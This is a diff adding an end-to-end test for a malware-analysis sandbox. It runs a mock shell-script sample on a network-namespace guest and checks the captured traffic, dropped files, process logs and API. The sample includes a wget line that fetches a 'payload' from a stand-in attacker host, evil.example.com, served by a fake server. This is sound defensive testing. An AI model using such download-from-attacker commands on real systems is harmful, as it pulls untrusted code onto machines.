@@ -1,0 +1,120 @@
+// End to end with real parts: a network namespace plays an analysis machine (`physical` driver)
+// running `aviary agent`; a second address plays the internet (DNS and HTTP). A shell-script
+// sample resolves a name, fetches a URL, writes a file and starts a child process. The service
+// runs it through the whole engine — scheduler, result server, tcpdump, the agent protocol,
+// Aviary's analyzer — and the test checks the analysis folder, the pcap (read back with tcpdump,
+// the oracle) and the API. Reboot and reschedule then run again on the same guest.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { execFileSync } from 'node:child_process'
+import { existsSync, readdirSync, readFileSync } from 'node:fs'
+import path from 'node:path'
+import { createNetnsGuest, type NetnsGuest } from '../guests/netns-guest'
+import { startHarness, type Harness } from '../service-harness'
+import { waitForTask, stages, submitFile } from './e2e-helpers'
+
+const SAMPLE = `#!/bin/sh
+# resolves a name, fetches a URL, writes a file and starts a child process
+wget -O /tmp/page.html http://evil.example.com/payload
+echo dropped-by-sample > /tmp/dropped.txt
+sh -c 'sleep 1; echo from-child > /tmp/child.txt' &
+wait
+`
+
+describe('an analysis on a netns guest (physical driver, aviary agent)', () => {
+  let guest: NetnsGuest
+  let h: Harness
+  let taskId: number
+
+  beforeAll(async () => {
+    guest = await createNetnsGuest({ index: 1, prefix: 'avee' })
+    await guest.startAgent([process.execPath, path.resolve('bin/aviary.js'), 'agent', '-H', '0.0.0.0', '-p', '8000'])
+    h = await startHarness({
+      engine: true,
+      machines: {
+        driver: 'physical',
+        interface: guest.hostIf,
+        resultserver: { ip: guest.hostIp, port: 0 },
+        screenshots: { interval: 0 },
+        machines: [{ name: 'netns1', ip: guest.guestIp, platform: 'linux' }]
+      }
+    })
+    taskId = await submitFile(h, 'fetcher.sh', SAMPLE, { timeout: '30' })
+    await waitForTask(h, taskId, ['completed', 'failed_analysis'], 90_000)
+  }, 150_000)
+
+  afterAll(async () => {
+    await h?.stop()
+    await guest?.close()
+  })
+
+  it('completes, with every stage of the run on its timeline', async () => {
+    const { body } = await h.json<{ task: { status: string; errors: string[]; guest: { name: string; manager: string } } }>(`/tasks/view/${taskId}`)
+    expect(body.task.errors).toEqual([])
+    expect(body.task.status).toBe('completed')
+    expect(body.task.guest).toMatchObject({ name: 'netns1', manager: 'physical' })
+    const s = await stages(h, taskId)
+    for (const stage of ['queued', 'machine_locked', 'reverting', 'started', 'agent_answered', 'analyzer_started', 'finished', 'machine_stopped', 'completed']) {
+      expect(s).toContain(stage)
+    }
+  })
+
+  it('the guest really resolved the name and fetched the URL', () => {
+    expect(guest.dns.queries).toContain('evil.example.com')
+    expect(guest.http.requests.some((r) => r.url === '/payload' && r.host === 'evil.example.com')).toBe(true)
+  })
+
+  it('dump.pcap holds the DNS query and the HTTP request, and not the agent or result-server traffic', () => {
+    const pcap = path.join(h.dataDir, 'storage/analyses', String(taskId), 'dump.pcap')
+    const text = execFileSync('tcpdump', ['-n', '-r', pcap, '-A'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] })
+    expect(text).toMatch(/A\? evil\.example\.com\./)
+    expect(text).toContain('GET /payload HTTP/1.1')
+    expect(text).not.toMatch(new RegExp(`${guest.hostIp.replace(/\./g, '\\.')}\\.8000[ :]`))
+    expect(text).not.toMatch(new RegExp(`${guest.guestIp.replace(/\./g, '\\.')}\\.8000[ :]`))
+  })
+
+  it('files/ holds the dropped file and the logs show both processes', () => {
+    const dir = path.join(h.dataDir, 'storage/analyses', String(taskId))
+    const files = readdirSync(path.join(dir, 'files'))
+    const dropped = files.find((f) => f.endsWith('_dropped.txt'))
+    expect(dropped, `files/: ${files.join(', ')}`).toBeDefined()
+    expect(readFileSync(path.join(dir, 'files', dropped!), 'utf8')).toBe('dropped-by-sample\n')
+    const behavior = readFileSync(path.join(dir, 'logs/behavior.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>)
+    const procs = behavior.filter((e) => e.type === 'process')
+    const sample = procs.find((p) => String(p.command_line).includes('fetcher.sh'))
+    const child = procs.find((p) => String(p.command_line).includes('sleep 1; echo from-child'))
+    expect(sample, JSON.stringify(procs)).toBeDefined()
+    expect(child, JSON.stringify(procs)).toBeDefined()
+    expect(child!.ppid).toBe(sample!.pid)
+    const log = readFileSync(path.join(dir, 'analysis.log'), 'utf8')
+    expect(log).toMatch(/\[analyzer\] INFO: /)
+    expect(existsSync(path.join(dir, 'task.json'))).toBe(true)
+  })
+
+  it('the API serves the pcap and the dropped files', async () => {
+    const pcap = await h.get(`/pcap/get/${taskId}`)
+    expect(pcap.status).toBe(200)
+    const bytes = Buffer.from(await pcap.arrayBuffer())
+    expect(bytes.readUInt32LE(0)).toBe(0xa1b2c3d4)
+    const dropped = await h.get(`/tasks/report/${taskId}/dropped`)
+    expect(dropped.status).toBe(200)
+    const listing = execFileSync('tar', ['-tjf', '-'], { input: Buffer.from(await dropped.arrayBuffer()), encoding: 'utf8' })
+    expect(listing).toMatch(/_dropped\.txt/)
+  })
+
+  it('reschedule runs the task again on the guest', async () => {
+    const r = await h.json<{ task_id: number }>(`/tasks/reschedule/${taskId}`)
+    expect(r.status).toBe(200)
+    const status = await waitForTask(h, r.body.task_id, ['completed', 'failed_analysis'], 90_000)
+    expect(status).toBe('completed')
+  }, 100_000)
+
+  it('reboot puts the dropped files back and runs again', async () => {
+    const r = await h.json<{ reboot_id: number }>(`/tasks/reboot/${taskId}`)
+    expect(r.status).toBe(200)
+    const id = r.body.reboot_id
+    const status = await waitForTask(h, id, ['completed', 'failed_analysis'], 90_000)
+    expect(status).toBe('completed')
+    const log = readFileSync(path.join(h.dataDir, 'storage/analyses', String(id), 'analysis.log'), 'utf8')
+    expect(log).toMatch(/putting back \/tmp\/dropped\.txt/)
+  }, 100_000)
+})
